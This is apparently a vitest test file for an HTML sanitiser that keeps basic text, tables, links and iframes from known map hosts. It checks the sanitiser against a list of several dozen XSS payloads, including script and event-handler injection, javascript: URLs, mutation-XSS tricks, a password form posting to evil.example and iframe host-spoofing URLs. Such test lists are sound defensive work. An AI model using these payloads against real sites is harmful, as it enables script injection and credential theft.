import { parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { errorAt } from 'ximblox'
import { htmlErrors, isValidHtml } from './check-html.ts'
import { cleanHtml } from './clean-html.ts'
import { frameHosts } from './frame-hosts.ts'

const map = 'https://www.openstreetmap.org/export/embed.html?bbox=5%2C52%2C5.1%2C52.1'

const hostile = [
  '<script>alert(1)</script>',
  '<script src=https://evil.example/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)" style="background:url(//evil.example)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#x1;javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="//evil.example" target=_top ping="https://evil.example">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<applet code=x></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<video src="https://evil.example/x.mp4" onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p id="main" class="hidden" data-x="1" slot="x">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="data:text/html,x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  `<iframe src="${map}" srcdoc="<script>alert(1)</script>" onload="alert(1)" name="x"></iframe>`,
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe src="http://www.openstreetmap.org/"></iframe>',
  '<iframe src="https://www.openstreetmap.org.evil.example/"></iframe>',
  '<iframe src="https://www.openstreetmap.org@evil.example/"></iframe>',
  '<iframe src="https://evil.example\\@www.openstreetmap.org/"></iframe>',
  '<iframe src="//www.openstreetmap.org/"></iframe>',
  '<iframe src="https://www.openstreetmap.org:8443/"></iframe>',
  '<iframe src="https://constructor/"></iframe>',
  '<ifr<iframe></iframe>ame src=x></iframe>',
  `<p>${'<b>'.repeat(5000)}deep`,
  '<'.repeat(10_000),
  '\u0000<script\u0000>alert(1)</script>',
  '<a href="https://ok.example/" onmouseover="alert(1)" style="position:fixed;inset:0">x</a>',
]

/** Every element and attribute of the markup as browsers read it. */
const partsOf = (html: string): string[] => {
  const parts: string[] = []
  const left: unknown[] = [parseFragment(html)]
  for (let node = left.pop(); node; node = left.pop()) {
    const { tagName, attrs = [], childNodes = [] } = Object(node)
    if (tagName)
      parts.push(
        tagName,
        ...attrs.map(({ name, value }: { name: string; value: string }) => `${name}=${value}`),
      )
    left.push(...childNodes)
  }
  return parts
}

describe('pasted HTML', () => {
  test.each(hostile)('is harmless when it was %#', pasted => {
    const { html, frames } = cleanHtml(pasted)
    const harmless =
      /^(p|b|a|h[3-6]|[uo]l|li|table|tbody|tr|t[hd]|href=(https?:\/\/|mailto:|tel:).*|(col|row)span=\d+)$/
    expect(partsOf(html).filter(part => !harmless.test(part))).toEqual([])
    for (const frame of frames) expect(frame).toBe(map)
    // Cleaned twice is cleaned once: nothing hides behind what was removed.
    expect(cleanHtml(html).html).toBe(html)
  })

  test('keeps texts, tables, links and the frames of known sites', () => {
    const table =
      '<table><tbody><tr><th scope="row">CO<sub>2</sub></th><td colspan="2">4</td></tr></tbody></table>'
    const link = '<p>See <a href="https://example.org/">this</a>.</p>'
    const pasted = `<div class="x">${link}<iframe src="${map}" width="600"></iframe></div>${table}`
    expect(cleanHtml(pasted)).toEqual({ html: link + table, frames: [map], refused: [] })
    expect(htmlErrors(pasted)).toEqual([])
  })

  test('is refused where it is not valid, has nothing to show, or shows frames of other sites', () => {
    const invalid = [
      '<p>1 < 2',
      '<b>open',
      'closed</b>',
      '<div><i>x</div></i>',
      '<p title=a title=b>x</p>',
      '<script>1</script>',
      '<p> </p>',
    ]
    expect(invalid.map(htmlErrors)).toEqual(invalid.map(() => [errorAt('props.html', 'invalidHtml')]))
    expect(htmlErrors('<iframe src="https://evil.example/"></iframe>')).toEqual([
      errorAt('props.html', 'valueNotAllowed', { allowed: Object.keys(frameHosts) }),
    ])
    expect(htmlErrors('')).toEqual([])
  })

  test('may leave out end tags that HTML does not ask for', () => {
    expect(isValidHtml('<ul><li>One<li>Two</ul><p>Text<br>more<table><tr><td>1<td>2</table>')).toBe(true)
    expect(isValidHtml('<p title="</b>">x')).toBe(false)
  })
})
